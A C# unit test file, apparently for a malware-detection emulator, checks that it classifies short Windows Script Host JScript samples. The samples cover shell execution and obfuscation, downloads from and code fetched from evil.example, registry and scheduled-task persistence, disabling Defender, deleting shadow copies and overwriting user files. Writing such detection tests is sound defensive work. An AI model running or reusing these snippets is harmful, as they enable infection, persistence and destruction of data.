using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.JavaScript;

public sealed class WindowsScriptTests
{
    public static TheoryData<string, BehaviourKind, string> Acts => new()
    {
        { "run", BehaviourKind.Execute, "var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c calc.exe',0,false)" },
        { "names in any case", BehaviourKind.Execute, "var s=WScript.createobject('wscript.SHELL');s.RUN('notepad')" },
        { "name put together", BehaviourKind.Execute, "var p=['ell','.Sh','ipt','WScr'];this['Act'+'iveXObject'];new ActiveXObject(p[3]+p[2]+p[1]+p[0])['R'+'un']('powershell -nop')" },
        { "shell execute", BehaviourKind.Execute, "new ActiveXObject('Shell.Application').ShellExecute('mshta','https://evil.example/a.hta','','open',0)" },
        { "as administrator", BehaviourKind.Elevate, "new ActiveXObject('Shell.Application').ShellExecute('cmd','/c x','','runas',0)" },
        { "wmi", BehaviourKind.Execute, "GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('rundll32 a.dll,b',null,null,0)" },
        { "by class id", BehaviourKind.Execute, "GetObject('new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}').Exec('whoami')" },
        { "download", BehaviourKind.Download, "var h=new ActiveXObject('MSXML2.XMLHTTP');h.open('GET','http://evil.example/a.exe',false);h.send();" },
        { "download to a file", BehaviourKind.Drop, "var h=new ActiveXObject('WinHttp.WinHttpRequest.5.1');h.Open('GET','http://evil.example/a.exe',0);h.Send();if(h.Status==200){var t=new ActiveXObject('ADODB.Stream');t.Open();t.Type=1;t.Write(h.ResponseBody);t.Position=0;t.SaveToFile(new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%')+'\\\\a.exe',2);t.Close()}" },
        { "run key", BehaviourKind.Persist, "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\x','wscript a.js','REG_SZ')" },
        { "start-up folder", BehaviourKind.Persist, "var s=new ActiveXObject('WScript.Shell'),f=new ActiveXObject('Scripting.FileSystemObject');f.CopyFile(WScript.ScriptFullName,s.SpecialFolders('Startup')+'\\\\u.js')" },
        { "task", BehaviourKind.Persist, "var s=new ActiveXObject('Schedule.Service');s.Connect();var t=s.NewTask(0);t.Actions.Create(0).Path='wscript.exe';s.GetFolder('\\\\').RegisterTaskDefinition('Upd',t,6,'','',3)" },
        { "defender", BehaviourKind.DisableDefence, "new ActiveXObject('WScript.Shell').RegWrite('HKLM\\\\SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender\\\\DisableAntiSpyware',1,'REG_DWORD')" },
        { "fetched code run", BehaviourKind.Execute, "var h=new ActiveXObject('Microsoft.XMLHTTP');h.open('GET','http://evil.example/a',false);h.send();eval(h.responseText)" },
        { "shadow copies", BehaviourKind.DeleteShadowCopies, "var e=new Enumerator(GetObject('winmgmts:').ExecQuery('select * from Win32_ShadowCopy'));for(;!e.atEnd();e.moveNext())e.item().Delete_()" },
        { "documents overwritten", BehaviourKind.Encrypt, "var f=new ActiveXObject('Scripting.FileSystemObject'),e=new Enumerator(f.GetFolder('C:\\\\Users').Files);for(;!e.atEnd();e.moveNext()){var p=e.item().Path,t=f.OpenTextFile(p,1).ReadAll();var o=f.CreateTextFile(p+'.locked');o.Write(t.split('').reverse().join(''));o.Close();f.DeleteFile(p)}" },
        { "conditional comments", BehaviourKind.Execute, "/*@cc_on new ActiveXObject('WScript.Shell').Run('cmd') @*/" },
        { "in eval in eval", BehaviourKind.Execute, "eval(unescape('eval%28%22new%20ActiveXObject%28%27WScript.Shell%27%29.Run%28%27cmd%27%29%22%29'))" },
    };

    [Theory]
    [MemberData(nameof(Acts))]
    public void What_a_script_does_to_the_machine_is_told(string what, BehaviourKind kind, string code)
    {
        var log = Emulated.Script(code);
        Assert.True(log.Did(kind), $"{what}: {log.Told()}");
    }

    [Fact]
    public void A_file_that_a_script_carries_goes_into_the_scan()
    {
        var log = Emulated.Script("var x=new ActiveXObject('Microsoft.XMLDOM'),n=x.createElement('a');n.dataType='bin.base64';n.text='TVqQAAMAAAA=';var s=WScript.CreateObject('ADODB.Stream');s.Type=1;s.Open();s.Write(n.nodeTypedValue);s.SaveToFile('C:\\\\Users\\\\Public\\\\u.exe',2)");
        var payload = Assert.Single(log.Payloads);
        Assert.Equal("u.exe", payload.Name);
        Assert.Equal("MZ"u8.ToArray(), payload.Content[..2].ToArray());
    }

    [Fact]
    public void A_command_is_a_script_of_its_own()
    {
        var log = Emulated.Script("new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA')");
        Assert.Equal(ScriptLanguage.Batch, Assert.Single(log.Layers).Language);
    }

    [Fact]
    public void A_script_that_ends_itself_has_ended() =>
        Assert.Empty(Emulated.Script("WScript.Quit();new ActiveXObject('WScript.Shell').Run('cmd')").Behaviours);

    [Fact]
    public void A_script_that_waits_comes_to_its_act()
    {
        var log = Emulated.Script("var t=new Date().getTime();while(new Date().getTime()-t<90000){}WScript.Sleep(60000);new ActiveXObject('WScript.Shell').Run('cmd')");
        Assert.True(log.Did(BehaviourKind.Execute), log.Told());
    }

    [Fact]
    public void An_html_application_has_a_page_and_the_machine()
    {
        var log = Emulated.Run(new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.WindowsScript, "", "script") { Page = "<html><hta:application id=a><body onload=\"go()\"><script>function go(){var w=new ActiveXObject('WScript.Shell');w.Run(document.getElementById('c').innerText);window.close()}</script><p id=c>cmd /c x</p></body></html>", FileName = "a.hta" });
        Assert.True(log.Did(BehaviourKind.Execute), log.Told());
    }
}
